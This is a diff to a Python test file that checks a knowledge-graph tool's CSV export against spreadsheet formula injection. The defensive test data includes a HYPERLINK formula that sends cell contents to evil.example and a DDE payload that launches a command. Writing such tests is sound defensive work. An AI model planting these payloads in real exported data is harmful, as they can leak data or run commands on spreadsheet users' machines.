@@ -50,13 +50,14 @@ def test_query_from_names_the_dataset(tmp_path, disk_store, mem_store, where):
 
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\tleading tab", "Kabul", "-5", "+3.25", "1e5"]
-SAFE = ["'" + HOSTILE[0], "'" + HOSTILE[1], "'-2+3", "'@SUM(A1:A9)", "'\tleading tab", "Kabul", "-5", "+3.25", "1e5"]
+           "\tleading tab", "\rleading return", "Kabul", "-5", "+3.25", "1e5", "two\rlines"]
+SAFE = ["'" + HOSTILE[0], "'" + HOSTILE[1], "'-2+3", "'@SUM(A1:A9)", "'\tleading tab", "'\rleading return",
+        "Kabul", "-5", "+3.25", "1e5", "two\rlines"]
 
 
 @pytest.fixture
 def hostile_graph(tmp_path):
-    lines = [f'<http://e/x{i}> <http://www.w3.org/2000/01/rdf-schema#label> "{text}" .'
+    lines = [f'<http://e/x{i:02d}> <http://www.w3.org/2000/01/rdf-schema#label> "{text}" .'
              for i, text in enumerate(t.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
                                       .replace("\r", "\\r") for t in HOSTILE)]
     path = tmp_path / "hostile.nt"
@@ -69,10 +70,10 @@ def test_query_csv_is_spreadsheet_safe(hostile_graph, fmt, delimiter):
     q = "SELECT ?l WHERE { ?s <http://www.w3.org/2000/01/rdf-schema#label> ?l } ORDER BY ?s"
     code, out = kg("query", q, "--graph", str(hostile_graph), "--format", fmt)
     assert code == 0, out
-    cells = [r[0] for r in csv.reader(io.StringIO(out), delimiter=delimiter) if r][1:]
+    cells = [r[0] for r in csv.reader(io.StringIO(out, newline=""), delimiter=delimiter) if r][1:]
     assert cells == SAFE
     code, out = kg("query", q, "--graph", str(hostile_graph), "--format", fmt, "--raw-csv")
-    assert [r[0] for r in csv.reader(io.StringIO(out), delimiter=delimiter) if r][1:] == HOSTILE
+    assert [r[0] for r in csv.reader(io.StringIO(out, newline=""), delimiter=delimiter) if r][1:] == HOSTILE
 
 
 def test_analyze_edges_csv_is_spreadsheet_safe(tmp_path, mem_store):
@@ -90,8 +91,7 @@ def test_analyze_edges_csv_is_spreadsheet_safe(tmp_path, mem_store):
         assert all(not r["evidence"].startswith(("=", "+", "@")) for r in rows if not raw)
 
 
-@pytest.mark.parametrize("cell, safe", list(zip(HOSTILE, SAFE, strict=True))
-                         + [("\rleading return", "'\rleading return"), (3, 3), ("", "")])
+@pytest.mark.parametrize("cell, safe", list(zip(HOSTILE, SAFE, strict=True)) + [(3, 3), ("", "")])
 def test_sparql_spreadsheet_safe(cell, safe):
     assert spreadsheet_safe(cell) == safe
 
